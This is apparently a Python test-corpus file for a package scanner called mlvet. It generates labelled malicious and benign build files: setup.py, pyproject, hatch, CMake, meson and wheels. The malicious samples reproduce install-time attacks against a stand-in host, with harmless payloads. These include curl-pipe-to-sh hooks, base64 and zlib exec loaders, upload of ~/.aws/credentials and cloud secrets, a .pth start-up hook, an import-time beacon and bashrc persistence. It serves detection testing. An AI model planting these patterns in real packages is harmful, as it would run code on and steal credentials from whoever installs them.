"""Build-system tampering: setup.py install hooks, pyproject backends, CMake and meson downloads, wheel .pth.

Malicious samples reproduce what install-time malware does (GuardDog's cmd-overwrite and
download-exec patterns, the litellm 1.82.8 ``.pth`` start-up hook, CMake scripts fetched without a
hash) with harmless payloads: every URL is on ``example.invalid`` and every command is only text that
mlvet reads; nothing is built or run. Benign samples follow the shapes of real packages' build files
(the real sdists and wheels from the package index are checked in tests/unit/scan/test_build_systems_real.py).
"""

from __future__ import annotations

import base64
import io
import tarfile
import textwrap
import zipfile
import zlib
from pathlib import Path

from tests.corpus.sample import Sample, benign, malicious

HOST = "https://example.invalid"
HARMLESS = "print('mlvet-test')"


def _write_tree(path: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        target = path / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")


def _sdist(path: Path, top: str, files: dict[str, str]) -> None:
    """A tar.gz laid out as an sdist (``top/PKG-INFO`` beside the build files)."""
    members = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {top.split('-')[0]}\nVersion: 1.0\n", **files}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, text in sorted(members.items()):
            data = textwrap.dedent(text).lstrip("\n").encode()
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            archive.addfile(info, io.BytesIO(data))
    path.write_bytes(_gzip(buffer.getvalue()))


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def _wheel(path: Path, name: str, files: dict[str, bytes]) -> None:
    """A zip laid out as a wheel: ``*.dist-info/WHEEL``, ``METADATA`` and ``RECORD`` plus ``files``."""
    info = f"{name}-1.0.dist-info"
    members = {
        f"{name}/__init__.py": b"",
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: mlvet-corpus\nRoot-Is-Purelib: true\n"
        b"Tag: py3-none-any\n",
    }
    record = "".join(f"{member},,\n" for member in members) + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(zipfile.ZipInfo(member, (1980, 1, 1, 0, 0, 0)), data)
        archive.writestr(zipfile.ZipInfo(f"{info}/RECORD", (1980, 1, 1, 0, 0, 0)), record)


_ENCODED = base64.b64encode(HARMLESS.encode()).decode()

# ---------------------------------------------------------------- setup.py


@malicious(
    "build/setup_install_hook_curl_sh",
    {"MLV821", "MLV825"},
    "setup.py cmdclass install override that pipes a download into sh (GuardDog cmd-overwrite)",
)
def _setup_install_hook(path: Path) -> None:
    _write_tree(
        path,
        {
            "setup.py": f"""
            import subprocess
            from setuptools import setup
            from setuptools.command.install import install


            class PostInstall(install):
                def run(self):
                    install.run(self)
                    subprocess.call("curl -fsSL {HOST}/i.sh | sh", shell=True)


            setup(name="demo", version="1.0", cmdclass={{"install": PostInstall}})
            """
        },
    )


@malicious("build/setup_base64_exec", "MLV824", "setup.py executes a base64-decoded payload at build time")
def _setup_base64(path: Path) -> None:
    _write_tree(
        path,
        {
            "setup.py": f"""
            import base64
            from setuptools import setup

            exec(base64.b64decode("{_ENCODED}"))
            setup(name="demo", version="1.0")
            """
        },
    )


@malicious(
    "build/setup_marshal_zlib_exec",
    "MLV824",
    "setup.py runs a marshal/zlib-hidden code object (obfuscated install-time payload)",
)
def _setup_marshal(path: Path) -> None:
    blob = base64.b64encode(zlib.compress(HARMLESS.encode())).decode()
    _write_tree(
        path,
        {
            "setup.py": f"""
            import base64, marshal, zlib
            from distutils.core import setup

            exec(zlib.decompress(base64.b64decode("{blob}")))
            code = marshal.loads(zlib.decompress(base64.b64decode("{blob}")))
            setup(name="demo")
            """
        },
    )


@malicious(
    "build/setup_exfiltrates_secrets",
    {"MLV822", "MLV826"},
    "setup.py posts cloud credentials from the environment to a server while building",
)
def _setup_exfil(path: Path) -> None:
    _write_tree(
        path,
        {
            "setup.py": f"""
            import os
            import requests
            from setuptools import setup

            requests.post("{HOST}/c", data={{"k": os.environ.get("AWS_SECRET_ACCESS_KEY", "")}})
            setup(name="demo")
            """
        },
    )


@malicious(
    "build/sdist_download_exec.tar.gz",
    {"MLV822", "MLV824"},
    "an sdist whose setup.py downloads a second stage and execs it",
)
def _sdist_download_exec(path: Path) -> None:
    _sdist(
        path,
        "demo-1.0",
        {
            "setup.py": f"""
            from urllib.request import urlopen
            from setuptools import setup

            exec(urlopen("{HOST}/stage2.py").read())
            setup(name="demo", version="1.0")
            """,
            "demo/__init__.py": "",
        },
    )


# ---------------------------------------------------------------- pyproject.toml and hooks


@malicious(
    "build/pyproject_shadowed_backend",
    "MLV832",
    "in-tree backend-path that shadows setuptools.build_meta with the package's own module",
)
def _pyproject_shadow(path: Path) -> None:
    _write_tree(
        path,
        {
            "pyproject.toml": """
            [build-system]
            requires = []
            build-backend = "setuptools.build_meta"
            backend-path = ["."]

            [project]
            name = "innocent"
            version = "1.0"
            """,
            "setuptools/build_meta.py": "def build_wheel(*args):\n    return 'x.whl'\n",
        },
    )


@malicious(
    "build/pyproject_url_requirement",
    "MLV833",
    "a [build-system] requirement fetched from a URL instead of the index (no pin, no hash)",
)
def _pyproject_url(path: Path) -> None:
    _write_tree(
        path,
        {
            "pyproject.toml": f"""
            [build-system]
            requires = ["setuptools>=68", "helper @ {HOST}/helper-1.0.tar.gz"]
            build-backend = "setuptools.build_meta"
            """
        },
    )


@malicious(
    "build/hatch_hook_subprocess",
    "MLV822",
    "a hatch custom build hook that uploads the user's credentials with curl at build time",
)
def _hatch_hook(path: Path) -> None:
    _write_tree(
        path,
        {
            "pyproject.toml": """
            [build-system]
            requires = ["hatchling"]
            build-backend = "hatchling.build"

            [project]
            name = "demo"
            version = "1.0"

            [tool.hatch.build.hooks.custom]
            """,
            "hatch_build.py": f"""
            import subprocess
            from hatchling.builders.hooks.plugin.interface import BuildHookInterface


            class CustomBuildHook(BuildHookInterface):
                def initialize(self, version, build_data):
                    subprocess.run(["curl", "-s", "-F", "f=@.aws/credentials", "{HOST}/u"], check=False)
            """,
        },
    )


# ---------------------------------------------------------------- CMake and meson


@malicious(
    "build/cmake_download_then_execute",
    {"MLV841", "MLV821"},
    "CMake file(DOWNLOAD) of a script without EXPECTED_HASH, then execute_process runs it",
)
def _cmake_download(path: Path) -> None:
    _write_tree(
        path,
        {
            "CMakeLists.txt": f"""
            cmake_minimum_required(VERSION 3.18)
            project(demo CXX)
            file(DOWNLOAD {HOST}/bootstrap.sh ${{CMAKE_BINARY_DIR}}/bootstrap.sh)
            execute_process(COMMAND sh ${{CMAKE_BINARY_DIR}}/bootstrap.sh)
            """
        },
    )


@malicious(
    "build/cmake_fetchcontent_no_hash",
    "MLV842",
    "FetchContent_Declare of a source archive with no URL_HASH (compiled into the extension unverified)",
)
def _cmake_fetch(path: Path) -> None:
    _write_tree(
        path,
        {
            "CMakeLists.txt": f"""
            cmake_minimum_required(VERSION 3.24)
            project(demo CXX)
            include(FetchContent)
            FetchContent_Declare(
              json  # the JSON library
              URL {HOST}/json-3.11.tar.xz
            )
            FetchContent_MakeAvailable(json)
            """
        },
    )


@malicious(
    "build/cmake_execute_process_curl_pipe",
    "MLV821",
    "execute_process with a curl | sh pipeline at configure time",
)
def _cmake_pipe(path: Path) -> None:
    _write_tree(
        path,
        {
            "cmake/Bootstrap.cmake": f"""
            execute_process(
              COMMAND curl -fsSL "{HOST}/install.sh"
              COMMAND sh
              RESULT_VARIABLE rc)
            """
        },
    )


@malicious(
    "build/meson_run_command_curl_sh",
    "MLV821",
    "meson run_command that runs sh -c 'curl ... | sh' during configuration",
)
def _meson(path: Path) -> None:
    _write_tree(
        path,
        {
            "meson.build": f"""
            project('demo', 'c')
            run_command('sh', '-c', 'curl -fsSL {HOST}/x | sh', check: false)
            """
        },
    )


# ---------------------------------------------------------------- wheels

_PTH_PAYLOAD = (
    "import subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"'import base64; exec(base64.b64decode(\"{_ENCODED}\"))'])\n"
)


@malicious(
    "build/wheel_startup_pth.whl",
    "MLV847",
    "a wheel shipping a .pth whose import line starts a process at every interpreter start (litellm 1.82.8)",
)
def _wheel_pth(path: Path) -> None:
    _wheel(path, "demo", {"demo_init.pth": _PTH_PAYLOAD.encode()})


@malicious(
    "build/wheel_data_script.whl",
    "MLV821",
    "a wheel installing a shell script onto PATH that pipes a download into sh",
)
def _wheel_script(path: Path) -> None:
    script = f"#!/bin/sh\ncurl -fsSL {HOST}/x | sh\n".encode()
    _wheel(path, "demo", {"demo-1.0.data/scripts/demo-update": script})


# ---------------------------------------------------------------- library code (graded as a package)

_PYPROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "demo"
version = "1.0"
"""


@malicious(
    "build/sdist_init_base64_exec.tar.gz",
    "MLV812",
    "an sdist whose package __init__.py decodes a base64 blob and execs it at import (GuardDog exec-base64)",
)
def _library_base64_exec(path: Path) -> None:
    _sdist(
        path,
        "demo-1.0",
        {
            "pyproject.toml": _PYPROJECT,
            "demo/__init__.py": f"""
            import base64

            __version__ = "1.0"
            _blob = "{_ENCODED}"
            exec(base64.b64decode(_blob).decode())
            """,
            "demo/util.py": "def helper(x):\n    return x\n",
        },
    )


@malicious(
    "build/wheel_import_steals_aws_credentials.whl",
    {"MLV851", "MLV813"},
    "a wheel whose __init__.py reads ~/.aws/credentials at import and posts it to a server",
)
def _library_credentials(path: Path) -> None:
    module = f"""
    import os
    import urllib.request


    def _collect():
        with open(os.path.expanduser("~/.aws/credentials")) as handle:
            data = handle.read().encode()
        urllib.request.urlopen(urllib.request.Request("{HOST}/c", data=data), timeout=3)


    try:
        _collect()
    except OSError:
        pass
    """
    _wheel(path, "demo", {"demo/__init__.py": textwrap.dedent(module).encode()})


@malicious(
    "build/source_tree_import_curl_sh",
    "MLV811",
    "a source tree whose package runs curl | sh from a module-level os.system call",
)
def _library_curl_sh(path: Path) -> None:
    _write_tree(
        path,
        {
            "pyproject.toml": _PYPROJECT,
            "src/demo/__init__.py": f"""
            import os

            os.system("curl -fsSL {HOST}/x.sh | sh")
            """,
        },
    )


@malicious(
    "build/wheel_import_thread_beacon.whl",
    "MLV813",
    "a wheel whose __init__.py starts a thread at import that connects to a server (import-time beacon)",
)
def _library_beacon(path: Path) -> None:
    module = """
    import socket
    import threading


    def _beacon():
        connection = socket.create_connection(("example.invalid", 443), timeout=3)
        connection.close()


    threading.Thread(target=_beacon, daemon=True).start()
    """
    _wheel(path, "demo", {"demo/__init__.py": textwrap.dedent(module).encode()})


@malicious(
    "build/wheel_writes_bashrc.whl",
    "MLV815",
    "a wheel module that appends a line to ~/.bashrc (persistence), even from a function",
)
def _library_persistence(path: Path) -> None:
    module = """
    import os


    def enable_completion():
        with open(os.path.expanduser("~/.bashrc"), "a") as handle:
            handle.write("python -c 'print(1)'\\n")
    """
    _wheel(path, "demo", {"demo/shell.py": textwrap.dedent(module).encode()})


@benign(
    "build/benign_library_source_tree",
    "library code that a model-code scan would call dangerous: subprocess, __import__, ctypes, sockets",
)
def _benign_library(path: Path) -> None:
    _write_tree(
        path,
        {
            "pyproject.toml": _PYPROJECT,
            "src/demo/__init__.py": """
            import importlib
            import os

            __version__ = "1.0"
            DEBUG = os.environ.get("DEMO_DEBUG") == "1"


            def plugin(name):
                return importlib.import_module(f"demo.plugins.{name}")


            def lazy(name):
                return __import__(name)
            """,
            "src/demo/native.py": """
            import ctypes
            import ctypes.util


            def libc():
                return ctypes.CDLL(ctypes.util.find_library("c"))
            """,
            "src/demo/net.py": """
            import pickle
            import socket
            import subprocess


            class Client:
                def __init__(self, host, port):
                    self.sock = socket.create_connection((host, port))

                def fetch_cached(self, path):
                    with open(path, "rb") as handle:
                        return pickle.load(handle)


            def git_revision():
                return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()
            """,
            "tests/test_net.py": """
            import subprocess

            GIT = subprocess.run(["git", "--version"], capture_output=True, check=False).stdout
            """,
        },
    )


# ---------------------------------------------------------------- benign


@benign(
    "build/benign_setuptools_project",
    "setup.py of the usual shape: version file exec, git describe, build_ext",
)
def _benign_setup(path: Path) -> None:
    _write_tree(
        path,
        {
            "setup.py": """
            import os
            import subprocess
            from setuptools import Extension, setup
            from setuptools.command.build_ext import build_ext

            about = {}
            with open(os.path.join("demo", "__about__.py")) as handle:
                exec(handle.read(), about)


            def git_version():
                try:
                    return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
                except OSError:
                    return "unknown"


            class BuildExt(build_ext):
                def run(self):
                    if os.environ.get("DEMO_NO_EXT"):
                        return
                    build_ext.run(self)


            setup(
                name="demo",
                version=about["__version__"],
                ext_modules=[Extension("demo._speedups", ["demo/_speedups.c"])],
                cmdclass={"build_ext": BuildExt},
            )
            """,
            "pyproject.toml": """
            [build-system]
            requires = ["setuptools>=61", "wheel"]
            build-backend = "setuptools.build_meta"
            """,
            "demo/__about__.py": '__version__ = "1.0"\n',
        },
    )


@benign("build/benign_cmake_pinned", "CMake with hashed downloads, a commit-pinned git dependency, python -c")
def _benign_cmake(path: Path) -> None:
    digest = "0" * 64
    _write_tree(
        path,
        {
            "CMakeLists.txt": f"""
            cmake_minimum_required(VERSION 3.24)
            project(demo LANGUAGES CXX)
            find_package(Python3 COMPONENTS Interpreter Development.Module REQUIRED)
            include(FetchContent)
            FetchContent_Declare(fmt URL {HOST}/fmt-10.2.tar.gz URL_HASH SHA256={digest})
            FetchContent_Declare(json GIT_REPOSITORY {HOST}/json.git GIT_TAG {"a" * 40})
            file(DOWNLOAD {HOST}/data.bin ${{CMAKE_BINARY_DIR}}/data.bin EXPECTED_HASH SHA256={digest})
            execute_process(
              COMMAND "${{Python3_EXECUTABLE}}" -c "import numpy; print(numpy.get_include())"
              OUTPUT_VARIABLE NUMPY_INCLUDE OUTPUT_STRIP_TRAILING_WHITESPACE)
            add_custom_command(OUTPUT gen.cpp COMMAND ${{CMAKE_COMMAND}} -E copy src.in gen.cpp)
            #[[ file(DOWNLOAD {HOST}/commented-out.sh x.sh) ]]
            """,
            "pyproject.toml": """
            [build-system]
            requires = ["scikit-build-core>=0.10", "pybind11"]
            build-backend = "scikit_build_core.build"
            """,
        },
    )


@benign("build/benign_meson_project", "meson-python project running python -c and a project script")
def _benign_meson(path: Path) -> None:
    _write_tree(
        path,
        {
            "meson.build": """
            project('demo', 'c', version: run_command('tools/version.py', check: true).stdout().strip())
            py = import('python').find_installation(pure: false)
            incdir = run_command(py, ['-c', 'import numpy; print(numpy.get_include())'], check: true)
            py.extension_module('_demo', 'demo/_demo.c', install: true)
            """,
            "pyproject.toml": """
            [build-system]
            requires = ["meson-python>=0.15", "numpy>=2.0"]
            build-backend = "mesonpy"
            """,
        },
    )


@benign("build/benign_namespace_pth.whl", "a wheel with a .pth line that only imports its own module")
def _benign_pth(path: Path) -> None:
    line = "import os; on = os.environ.get('DEMO', 'local') == 'local'; on and __import__('demo').on()\n"
    _wheel(path, "demo", {"demo-hook.pth": line.encode()})


SAMPLES: list[Sample] = [
    _setup_install_hook,
    _setup_base64,
    _setup_marshal,
    _setup_exfil,
    _sdist_download_exec,
    _pyproject_shadow,
    _pyproject_url,
    _hatch_hook,
    _cmake_download,
    _cmake_fetch,
    _cmake_pipe,
    _meson,
    _wheel_pth,
    _wheel_script,
    _library_base64_exec,
    _library_credentials,
    _library_curl_sh,
    _library_beacon,
    _library_persistence,
    _benign_library,
    _benign_setup,
    _benign_cmake,
    _benign_meson,
    _benign_pth,
]
